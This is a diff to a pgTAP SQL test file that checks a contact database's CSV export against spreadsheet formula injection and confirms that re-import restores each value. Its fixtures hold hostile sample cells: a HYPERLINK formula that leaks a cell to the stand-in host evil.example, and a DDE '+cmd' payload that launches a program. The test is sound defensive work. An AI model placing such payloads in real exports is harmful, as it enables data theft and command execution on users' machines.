@@ -3,7 +3,7 @@
 -- all_or_nothing; the audience as CSV (BOM, header, custom fields as
 -- columns), export_rows for COPY, and .xlsx.
 BEGIN;
-SELECT plan(33);
+SELECT plan(37);
 
 SELECT customercard.create_account('Import test', 'RU', 'RUB') AS acct \gset
 SET customercard.account_id = :acct;
@@ -115,6 +115,32 @@ SELECT is((SELECT count(*) FROM customercard.import_json((
                                                 'emails', json_build_array('bulk' || i || '@example.com')))::text
                 FROM generate_series(1, 4000) i)) WHERE status = 'created'), 4000::bigint,
     'import_json of 4,000 contacts (8,000 identifiers) in one transaction');
+
+-- ---------------------------------------------------------------- formulas
+-- A value a spreadsheet would run (=, +, -, @, a tab or a carriage return
+-- first) is written with a leading ' (OWASP), a plain number is not, and
+-- our import reads such a cell back as it was: the round trip changes nothing
+SELECT customercard.upsert_contact(jsonb_build_object('name', '=HYPERLINK("http://evil.example/?leak="&A2,"click")', 'tags', jsonb_build_array('fx'), 'emails', jsonb_build_array('fx1@example.com'),
+                                                      'custom', jsonb_build_object('Source', '+cmd|'' /C calc''!A0'))) AS fx1 \gset
+SELECT customercard.upsert_contact(jsonb_build_object('name', '@SUM(1+1)', 'tags', jsonb_build_array('fx'), 'emails', jsonb_build_array('fx2@example.com'), 'custom', jsonb_build_object('Source', '-5', 'Course', E'\tTabbed'))) AS fx2 \gset
+SELECT customercard.upsert_contact(jsonb_build_object('name', '''=already quoted', 'tags', jsonb_build_array('fx'), 'emails', jsonb_build_array('fx3@example.com'), 'custom', jsonb_build_object('Source', '-2+3', 'Course', '''plain'))) AS fx3 \gset
+CREATE TEMP TABLE fx_csv AS SELECT customercard.export_csv('{"tag": "fx"}') AS csv;
+SELECT ok((SELECT csv LIKE '%,"''=HYPERLINK(""http://evil.example/?leak=""&A2,""click"")",%' AND csv LIKE '%,''@SUM(1+1),%'
+                  AND csv LIKE E'%,''+cmd|'' /C calc''!A0\r\n%' AND csv LIKE E'%,''\tTabbed,-5\r\n%' AND csv LIKE '%,''''=already quoted,%'
+                  AND csv LIKE E'%,''plain,''-2+3\r\n%' FROM fx_csv),
+    'export_csv writes a leading '' before a formula, an @, a + or - that is no plain number, a tab; a plain number as it is');
+SELECT is((SELECT count(*) FROM fx_csv, regexp_split_to_table(csv, E'\r\n') l, regexp_split_to_table(l, ',') f WHERE f ~ '^"?[-=+@\t]' AND f !~ '^-?[0-9]+$'),
+    0::bigint, '... no field of the file starts a formula');
+CREATE TEMP TABLE fx_before AS SELECT c.contact_id, c.name, (SELECT jsonb_object_agg(f.name, v.value) FROM customercard.custom_values v JOIN customercard.custom_fields f USING (account_id, field_id)
+                                                             WHERE v.account_id = c.account_id AND v.contact_id = c.contact_id) AS custom
+                                  FROM customercard.contacts c WHERE c.contact_id IN (:fx1, :fx2, :fx3);
+CREATE TEMP TABLE fx_import AS SELECT * FROM customercard.import_csv((SELECT csv FROM fx_csv));
+SELECT is((SELECT string_agg(status, ',') FROM fx_import), 'updated,updated,updated', '... and import_csv reads the export back onto the same contacts');
+SELECT results_eq('SELECT * FROM fx_before ORDER BY contact_id',
+    $$SELECT c.contact_id, c.name, (SELECT jsonb_object_agg(f.name, v.value) FROM customercard.custom_values v JOIN customercard.custom_fields f USING (account_id, field_id)
+                                    WHERE v.account_id = c.account_id AND v.contact_id = c.contact_id)
+        FROM customercard.contacts c WHERE c.contact_id IN ($$ || :fx1 || ',' || :fx2 || ',' || :fx3 || ') ORDER BY c.contact_id',
+    '... with every value as it was (the leading '' dropped again)');
 
 SELECT * FROM finish();
 ROLLBACK;
